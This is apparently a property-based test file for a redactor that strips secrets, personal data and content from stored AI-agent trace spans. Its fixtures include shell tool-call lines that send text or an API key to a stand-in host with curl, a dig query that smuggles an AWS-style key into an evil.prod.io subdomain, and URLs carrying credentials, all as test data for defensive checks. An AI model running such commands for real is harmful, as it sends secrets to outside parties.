import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { TraceDecoder } from '../decode/trace-decoder.ts';
import { createFieldTable } from '../model/fields.ts';
import type { Finding } from '../model/finding.ts';
import type { RedactionProfile } from '../model/redaction.ts';
import { NormalisedEvents } from '../normalise/span-events.ts';
import { storedFacts } from '../normalise/stored-facts.ts';
import { SpanRowEncoder } from '../store/rows/otel-traces.ts';
import { otlpProtobuf, type Plain, type TestSpan } from '../testing/otlp.ts';
import { redactedFindings } from './records.ts';
import { createRedactor } from './row-redactor.ts';
import { personal, secrets } from './testing/secrets.ts';

const key = Buffer.alloc(32, 7);
const ids = { traceId: 'ab'.repeat(16), spanId: 'cd'.repeat(8) };
const range = { fromMs: 1_500_000_000_000, toMs: 2_000_000_000_000 };
const nanos = 1_800_000_000_000_000_000n;

/** The bytes that would be stored of a request. */
function stored(spans: readonly Partial<TestSpan>[], profile: RedactionProfile): Buffer {
  const fields = createFieldTable();
  const redactor = createRedactor({ profile, key, fields });
  const encoder = new SpanRowEncoder(fields, storedFacts, redactor);
  const outcome = new TraceDecoder(fields).decode(
    otlpProtobuf(spans.map((span) => ({ ...ids, startNanos: nanos, endNanos: nanos + 1n, ...span }))),
  );
  if (outcome.status !== 'ok') throw new Error(outcome.message);
  const events = new NormalisedEvents(fields).bind(outcome.batch);
  return Buffer.from(encoder.encode(outcome.batch, range, events).bytes);
}

/** Every place of a span where somebody can put a text. */
const places: Readonly<Record<string, (text: string) => Partial<TestSpan>>> = {
  attribute: (text) => ({ attributes: { 'http.note': text } }),
  messages: (text) => ({
    attributes: {
      'gen_ai.operation.name': 'chat',
      'gen_ai.input.messages': JSON.stringify([{ role: 'user', parts: [{ type: 'text', content: `\n${text}` }] }]),
    },
  }),
  'messages of another dialect': (text) => ({
    attributes: {
      'openinference.span.kind': 'LLM',
      'llm.input_messages.0.message.content': text,
      'llm.input_messages.0.message.role': 'user',
    },
  }),
  arguments: (text) => ({
    attributes: {
      'gen_ai.operation.name': 'execute_tool',
      'gen_ai.tool.name': 'shell',
      'gen_ai.tool.call.arguments': JSON.stringify({
        command: `curl -d '${text}' https://x.example/?q=1`,
        deep: JSON.stringify({ text }),
      }),
    },
  }),
  list: (text) => ({ attributes: { list: ['a', text] as Plain } }),
  map: (text) => ({ attributes: { map: { inner: { text } } as Plain } }),
  name: (text) => ({ name: `do ${text} now` }),
  key: (text) => ({ attributes: { [`note ${text} end`]: 1 } }),
  'the command that it stands in': (text) => ({
    attributes: {
      'gen_ai.operation.name': 'execute_tool',
      'gen_ai.tool.name': 'bash',
      'gen_ai.tool.call.arguments': JSON.stringify({
        command: `export X='${text}'; curl -H "K: $X" https://x.example`,
      }),
    },
  }),
  base64: (text) => ({ attributes: { blob: Buffer.from(`it: ${text} .`).toString('base64') } }),
};

test('no secret of any kind stands in any stored column', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...Object.keys(secrets)),
      fc.constantFrom(...Object.keys(places)),
      fc.constantFrom('secrets' as const, 'secrets_and_pii' as const, 'metadata_only' as const),
      fc.nat(),
      (kind, place, profile, seed) => {
        const { text, value } = secrets[kind]!(seed);
        const bytes = stored([{ attributes: { other: 'before' } }, places[place]!(text), { name: 'after' }], profile);
        const leaks = [value, JSON.stringify(value).slice(1, -1), JSON.stringify(JSON.stringify(value)).slice(3, -3)];
        for (const leak of leaks) assert.ok(!bytes.includes(leak), `${kind} in ${place} under ${profile}`);
        assert.ok(!bytes.includes(Buffer.from(value).toString('base64').slice(4, -8)));
        if (value.length > 12) assert.ok(!bytes.toString('latin1').toLowerCase().includes(value.toLowerCase()), kind);
        if (place !== 'key') assert.ok(bytes.includes('~'), 'the row says that it was redacted');
      },
    ),
    { numRuns: 400 },
  );
});

test('no fact holds a secret that another part of the arguments tells', () => {
  const random = 'aB3dE6gH9kLmN0pQrS7tUvWx';
  const pem = Array.from({ length: 3 }, (_, line) => `/${'aB3dE6gH9/'.repeat(6)}${line}xy`).join('\n');
  const calls: Readonly<Record<string, readonly [tool: string, args: object, ...secrets: string[]]>> = {
    'a variable': ['bash', { command: `API_KEY=${random}; curl -H "X: $API_KEY" https://x.example` }, random],
    'a URL': ['web.fetch', { url: `https://bob:${random}@x.prod.io/` }, random],
    'a command': ['bash', { command: `git push https://bob:${random}@x.prod.io/r.git` }, random],
    'a path': ['deploy', { aws_secret_access_key: '/wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzzKEY' }, 'K7MDENG/bPxRfiCY'],
    'lines of a key': [
      'bash',
      { command: `echo '-----BEGIN ${'PRIVATE'} KEY-----\n${pem}\n-----END PRIVATE KEY-----' > k` },
      'aB3dE6gH9/aB3dE6gH9',
    ],
    'a host': ['bash', { command: 'dig AKIAABCD1234EFGH5678.evil.prod.io' }, 'AKIAABCD1234EFGH5678'],
  };
  for (const [name, [tool, args, ...values]] of Object.entries(calls)) {
    const attributes = {
      'gen_ai.operation.name': 'execute_tool',
      'gen_ai.tool.name': tool,
      'gen_ai.tool.call.arguments': JSON.stringify(args),
    };
    const text = stored([{ attributes }, { attributes }], 'secrets').toString('latin1').toLowerCase();
    for (const value of values) assert.ok(!text.includes(value.toLowerCase()), name);
  }
});

test('the name of an attribute says that its value is a secret', () => {
  const random = 'aB3dE6gH9kLmN0pQrS7tUvWx';
  const attributes = {
    'mcp.request.argument.password': 'hunter22',
    'db.client_secret': random,
    'http.request.header.authorization': ['Bearer q7Zx0Kp2Vb9N'] as Plain,
    'http.request.header.x-api-key': `${random}1`,
    'http.request.header.cookie': `sid=${random}2`,
    token: `${random}3`,
  };
  const bytes = stored([{ attributes }], 'secrets');
  for (const value of ['hunter22', random, 'q7Zx0Kp2Vb9N']) assert.ok(!bytes.includes(value), value);
  const kept = { 'gen_ai.usage.input_tokens': 1234567, 'gen_ai.token.type': 'input', password: 'none', key: 'order-1' };
  const plain = stored([{ attributes: kept }], 'off');
  assert.ok(stored([{ attributes: kept }], 'secrets').equals(plain));
});

test('without a secret the rows are the bytes that they are without redaction', () => {
  const texts = [
    '',
    'a',
    'max_tokens: 4096',
    'the password is in the vault',
    '\u0000\ud800',
    'deadbeef'.repeat(8),
    'é漢'.repeat(20),
  ];
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...texts), { maxLength: 6 }), (chosen) => {
      const attributes = Object.fromEntries(chosen.map((text, i) => [`k${i}`, text]));
      const spans = [{ name: 'n', attributes: { ...attributes, n: 7, list: ['x', 1] as Plain } }];
      const plain = stored(spans, 'off');
      assert.ok(stored(spans, 'secrets').equals(plain));
      assert.ok(stored(spans, 'secrets_and_pii').equals(plain));
    }),
  );
  assert.equal(createRedactor({ profile: 'off', key, fields: createFieldTable() }), undefined);
});

test('personal data is stored under secrets, and not under secrets_and_pii', () => {
  for (const [kind, value] of Object.entries(personal)) {
    const spans = [{ attributes: { note: `please call ${value} ok` } }];
    assert.ok(stored(spans, 'secrets').includes(value), kind);
    assert.ok(!stored(spans, 'secrets_and_pii').includes(value), kind);
    assert.ok(stored(spans, 'secrets_and_pii').includes(`[pii:${kind}:`), kind);
  }
});

test('metadata_only stores no content, but its size and hash, and who did what', () => {
  const said = 'the quick brown fox';
  const contents = {
    'gen_ai.input.messages': JSON.stringify([{ role: 'user', content: said }]),
    'gen_ai.output.messages': said,
    'gen_ai.system_instructions': said,
    'gen_ai.tool.definitions': said,
    'gen_ai.tool.call.arguments': said,
    'gen_ai.tool.call.result': said,
    'gen_ai.retrieval.documents': said,
    'gen_ai.prompt.0.content': said,
    'llm.input_messages.0.message.content': said,
    'retrieval.documents.0.document.content': said,
    'input.value': said,
    'ai.prompt.messages': said,
    'traceloop.entity.input': said,
    'db.query.text': said,
    'exception.message': said,
    'some.own.thing': said.repeat(40),
  };
  const attributes = { ...contents, 'gen_ai.tool.name': 'orders.read', 'gen_ai.request.model': 'gpt-5' };
  const bytes = stored([{ attributes }], 'metadata_only');
  assert.ok(!bytes.includes('quick brown'));
  assert.match(bytes.toString('latin1'), /\[content:19:[0-9a-f]{16}\]/);
  for (const kept of ['orders.read', 'gpt-5', 'input.value']) assert.ok(bytes.includes(kept), kept);
});

test('findings see the profile of their table', () => {
  const { value } = secrets.github_token!(5);
  const finding = {
    ...{ reason: '', serviceName: '', agentName: '', conversationId: '', userId: '', toolName: '' },
    groupKey: `c=${value}`,
    spanName: `say ${value}`,
    evidence: [
      { selection: 's', field: 'gen_ai.tool.call.result', wanted: 'contains "x"', excerpt: `read ${value} there` },
    ],
  } as unknown as Finding;
  const under = (profile: RedactionProfile) =>
    redactedFindings([finding], createRedactor({ profile, key, fields: createFieldTable() }))[0]!;
  assert.equal(under('off'), finding);
  assert.ok(!JSON.stringify(under('secrets')).includes(value));
  assert.match(under('secrets').evidence[0]!.excerpt, /^read \[secret:github_token:[0-9a-f]{16}\] there$/);
  assert.match(under('metadata_only').evidence[0]!.excerpt, /^\[content:\d+:[0-9a-f]{16}\]$/);
});
